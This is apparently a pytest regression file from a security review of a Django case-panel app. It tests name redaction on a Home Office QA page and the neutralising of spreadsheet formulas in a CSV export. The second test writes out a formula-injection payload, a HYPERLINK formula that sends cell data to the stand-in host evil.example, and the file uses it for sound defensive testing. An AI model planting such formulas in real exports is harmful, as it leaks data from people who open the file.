"""Panel defects found by the seventh issue-4 session's security review."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from tests.panels.conftest import decide, held_meeting

pytestmark = pytest.mark.django_db
PASSWORD = "a-long-test-password"


def _client(client, world, who):
    assert client.login(username=world["users"][who].username, password=PASSWORD)
    return client


def test_home_office_qa_page_shows_no_more_than_the_export(client, world, referral):
    """The QA export replaces the child's and members' names in free text; the QA page showed them."""
    from ccehub.panels import services as panels

    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
    rg = decide(
        world,
        meeting,
        referral,
        "rg_positive",
        rationale="Jamie Testcase was recruited by an older associate; DI Pat Police confirmed it",
        evidence_considered=["Jamie's account to Dr Sam Health"],
    )
    panels.qa_return(actor=world["as_ho"], decision=rg, reason="Say more about Jamie's account")
    panels.qa_respond(actor=world["as_lead"], decision=rg, response="Jamie told his social worker in May")
    ho = _client(client, world, "ho")
    page = ho.get(reverse("panels:qa-decision", args=[rg.pk])).content.decode()
    assert "[child]" in page and "[member]" in page
    for name in ("Jamie", "Testcase", "Pat Police", "Sam Health"):
        assert name not in page, name
    client.logout()
    # The panel's own people still read their own words.
    chair = _client(client, world, "chair")
    assert (
        "Jamie Testcase was recruited"
        in chair.get(reverse("panels:qa-decision", args=[rg.pk])).content.decode()
    )


def test_qa_csv_export_neutralises_spreadsheet_formulas(client, world, referral):
    """Free text written by a panel (rationale, dissent, evidence, response) must not run as a
    formula when Home Office QA opens the CSV in a spreadsheet."""
    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
    decide(
        world,
        meeting,
        referral,
        "rg_positive",
        rationale='=HYPERLINK("http://evil.example/?"&A1,"Open")',
        evidence_considered=["+1+1", "@SUM(1)", "-2+3"],
    )
    ho = _client(client, world, "ho")
    body = ho.get(reverse("panels:qa-export", args=["csv"])).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 1
    for key, value in rows[0].items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
    assert rows[0]["rationale"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
